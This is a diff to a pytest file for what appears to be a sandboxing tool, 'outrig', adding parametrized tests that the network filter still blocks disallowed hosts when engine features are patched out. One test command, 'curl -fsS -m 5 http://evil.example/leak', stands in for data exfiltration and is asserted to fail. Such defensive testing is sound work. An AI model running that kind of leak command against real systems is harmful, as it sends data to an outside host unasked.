@@ -7,7 +7,7 @@ import os
 import shutil
 import socket
 import sys
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -295,23 +295,54 @@ curl -fs -m 5 http://good.example/hello || echo not reached
         until(lambda: "failed" in session.record()["network"], "what became of the gateway")
 
 
-def test_an_engine_that_keeps_nothing_shut_is_found_out(session: Session, tmp_path: Path):
-    """As one would be that neither lets a gate stand apart, nor knows the option for a network."""
-    changed = tmp_path / "changed.py"
-    changed.write_text(
-        "import sys\nfrom outrig.engine import network\nnetwork.INHIBIT = 'com.example.nothing'\n"
-        "from outrig.runner import apart\n"
-        "apart._CAPABILITIES = tuple(one for one in apart._CAPABILITIES if one != 'SYS_ADMIN')\n"
-        "from outrig.cli.entry import entry\nsys.exit(entry())\n"
-    )
-    words = (sys.executable, str(changed), "run", "--network", "filter", "--", "true")
-    import subprocess  # noqa: PLC0415 - for this test alone
+# Engines that are like the one here but for something, by what is done to outrig.
+NO_NETWORKS = """
+from outrig.engine import network
+from outrig.errors import AddressesTakenError
+def make(*_args):
+    raise AddressesTakenError("all of them")
+network.make = make
+"""
+NO_NAMESPACES = """
+from outrig.runner import apart
+apart._CAPABILITIES = tuple(one for one in apart._CAPABILITIES if one != "SYS_ADMIN")
+"""
+NO_INHIBIT = """
+from outrig.engine import network
+network.INHIBIT = "com.example.nothing"
+"""
 
-    env = session.outrig.environment({"XDG_CACHE_HOME": str(tmp_path / "cache")})
-    done = subprocess.run(words, cwd=session.outrig.cwd, env=env, capture_output=True, check=False)
-    assert done.returncode == 125
-    assert b"does not keep a network shut" in done.stderr
-    assert b"is reached" in done.stderr
+
+def on_another(session: Session, tmp_path: Path, lacks: str, *words: str) -> Finished:
+    """`outrig run` in filter on an engine that nothing is known of."""
+    changed = tmp_path / "changed.py"
+    changed.write_text(f"{lacks}\nfrom outrig.cli.entry import entry\nentry()\n")
+    env = {"XDG_CACHE_HOME": str(tmp_path / "cache")}
+    another = replace(session.outrig, argv=(sys.executable, "-P", str(changed)))
+    return another("run", "--network", "filter", *words, env=env, timeout=150)
+
+
+@pytest.mark.parametrize(
+    ("lacks", "announced"), [(NO_NETWORKS, False), (NO_INHIBIT, False), (NO_NAMESPACES, True)]
+)
+def test_an_engine_that_lacks_one_way_has_the_other(
+    session: Session, tmp_path: Path, lacks: str, *, announced: bool
+):
+    script = "curl -fs http://good.example/hello; curl -fsS -m 5 http://evil.example/leak"
+    words = ("--allow", "good.example", "--", "sh", "-c", script)
+    done = on_another(session, tmp_path, lacks, *words)
+    assert done.code == 6, done.err  # of curl: evil.example has no address
+    assert done.out == "hello\n"
+    assert "evil.example" in done.err
+    assert ("it cannot stand apart here" in done.err) == announced
+    assert session.record()["resources"] == []
+
+
+def test_an_engine_that_keeps_nothing_shut_is_found_out(session: Session, tmp_path: Path):
+    done = on_another(session, tmp_path, NO_NAMESPACES + NO_INHIBIT, "--", "true")
+    assert done.code == 125
+    assert "does not keep a network shut" in done.err
+    assert "is reached" in done.err
     record = session.record()
     assert (record["status"], record["reason"]) == ("failed", "network-failed")
     assert record["resources"] == []
